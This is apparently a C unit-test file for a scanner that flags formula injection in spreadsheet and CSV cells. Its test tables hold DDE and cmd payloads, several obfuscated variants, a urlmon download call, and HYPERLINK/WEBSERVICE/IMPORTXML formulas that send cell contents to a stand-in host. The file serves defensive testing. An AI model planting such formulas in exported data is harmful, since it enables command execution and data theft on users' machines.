/* Formulas in the cells of tables: which start programs, which reach out, and what only looks like one. */
#include "support/cm.h"

#include <stdio.h>

#include "check/cells.h"
#include "support/judged.h"

static void cells(void **state)
{
	(void)state;
	static const struct {
		const char *cell;
		enum gh_cell is;
	} rows[] = {
		{ "=cmd|'/C calc'!A0", GH_CELL_RUNS },
		{ "+1+cmd|' /C calc'!A0", GH_CELL_RUNS },
		{ "@SUM(1+9)*cmd|' /C calc'!A0", GH_CELL_RUNS },
		{ "\t=cmd|'/C calc'!A0", GH_CELL_RUNS },
		{ "  '-2+3+MSEXCEL|'\\..\\cmd.exe'!A0", GH_CELL_RUNS },
		{ "\xef\xbc\x9d"
		  "cmd|'/C calc'!A0",
		  GH_CELL_RUNS },
		{ "\xef\xbb\xbf=cmd|'/C calc'!A0", GH_CELL_RUNS },
		{ "=DDE(\"cmd\";\"/C calc\";\"x\")", GH_CELL_RUNS },
		{ "=CALL(\"urlmon\",\"URLDownloadToFileA\")", GH_CELL_RUNS },
		{ "=HYPERLINK(\"http://x/?\"&A1,\"more\")", GH_CELL_REACHES },
		{ "=hyperlink (\"http://x\")", GH_CELL_REACHES },
		{ "=IF(1,_xlfn.WEBSERVICE(\"http://x/\"&A2))", GH_CELL_REACHES },
		{ "-IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", GH_CELL_REACHES },
		{ "=SUM(A1:A9)", GH_CELL_COMPUTES },
		{ "@SUM(1)", GH_CELL_COMPUTES },
		{ "=", GH_CELL_PLAIN },
		{ "-3.5e-7", GH_CELL_PLAIN },
		{ "+1 (555) 000-1111", GH_CELL_PLAIN },
		{ "@alice", GH_CELL_PLAIN },
		{ "- see above (again)", GH_CELL_PLAIN },
		{ "=A1+B2", GH_CELL_PLAIN },
		{ "a|b!c", GH_CELL_PLAIN },
		{ "call(me)", GH_CELL_PLAIN },
		{ "", GH_CELL_PLAIN },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		enum gh_cell is = gh_cell_of(gh_span_str(rows[i].cell));
		if (is != rows[i].is)
			fail_msg("%s: %d", rows[i].cell, (int)is);
	}
}

static void tables(void **state)
{
	(void)state;
	static const struct {
		const char *name, *text, *has, *not;
	} rows[] = {
		{ "a.csv", "id,name\n1,=cmd|'/C calc'!A0\n", "GH-CSV-0001", "GH-CSV-0002" },
		{ "a.csv", "id,name\n1,\"=HYPERLINK(\"\"http://x.example/\"\"&A1)\"\n", "GH-CSV-0002", "GH-CSV-0001" },
		{ "a.csv", "id;name\n1;\"a\nb\";=DDE(1)\n", "GH-CSV-0001", "GH-CSV-0002" },
		{ "a.tsv", "id\tname\n1\t@SUM(1)\n2\t=SUM(2)\n", "GH-CSV-0003", "GH-CSV-0001" },
		{ "a.csv", "id,name\n1,-3\n2,+4\n3,@x\n4,=\n", "", "GH-CSV" },
		{ "a.txt", "id,name\n1,=cmd|'/C calc'!A0\n", "", "GH-CSV" },
		/* A quote that nobody closes hides nothing. */
		{ "a.csv", "id,name\n1,\"open\n=cmd|'/C calc'!A0,2\n", "GH-CSV-0001", "GH-CSV-0002" },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		static struct gh_test_judged j;
		gh_test_judge(&j, gh_span_str(rows[i].text), rows[i].name);
		if (strstr(j.all, rows[i].has) == NULL || strstr(j.all, rows[i].not) != NULL)
			fail_msg("%s: %s expected, found:\n%s", rows[i].text, rows[i].has, j.all);
	}
	static char many[4000] = "a\n";
	for (int i = 0; i < 40; i++)
		(void)snprintf(many + strlen(many), sizeof many - strlen(many), "=HYPERLINK(\"http://x%d\")\n", i);
	static struct gh_test_judged j;
	gh_test_judge(&j, gh_span_str(many), "a.csv");
	assert_non_null(strstr(j.all, "GH-CSV-0004"));
	assert_string_equal(gh_check_cells.name, "cells");
}

int main(void)
{
	const struct CMUnitTest tests[] = { cmocka_unit_test(cells), cmocka_unit_test(tables) };
	return cmocka_run_group_tests_name("cells", tests, NULL, NULL);
}
